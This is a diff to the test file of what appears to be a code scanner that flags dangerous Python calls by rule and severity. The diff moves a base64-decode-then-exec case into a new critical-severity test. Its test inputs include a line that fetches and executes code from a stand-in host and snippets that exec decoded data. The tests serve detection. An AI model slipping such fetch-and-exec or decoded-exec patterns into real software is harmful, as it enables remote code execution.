@@ -47,10 +47,6 @@ def _ids(findings: list[Finding]) -> list[tuple[str, int | None, Level]]:
             "exec(urllib.request.urlopen('https://x.example/p.py').read())\n",
             [("SKC-PY-002", 2, Level.CRITICAL)],
         ),
-        (
-            "import base64\nblob = base64.b64decode('eA==')\nsource = blob\nexec(source)\n",
-            [("SKC-PY-001", 4, Level.HIGH)],
-        ),
         ("def run(some_var):\n    exec(some_var)\n", [("SKC-PY-001", 2, Level.HIGH)]),
         ("value = eval(expression)\n", [("SKC-PY-001", 1, Level.HIGH)]),
         ("exec('print(1)')\n", []),
@@ -95,6 +91,11 @@ def test_dangerous_calls(
     findings = _scan(tmp_path, code)
     assert _ids(findings) == expected
     assert all(f.source is Source.PYTHON_AST and f.path == "scripts/tool.py" for f in findings)
+
+
+def test_exec_of_a_name_bound_to_decoded_data_is_decoded_exec(tmp_path: Path) -> None:
+    code = "import base64\n\ncode = base64.b64decode(blob)\nexec(code)\n"
+    assert _ids(_scan(tmp_path, code)) == [("SKC-PY-002", 4, Level.CRITICAL)]
 
 
 def test_reverse_shell_in_one_function_is_critical(tmp_path: Path) -> None:
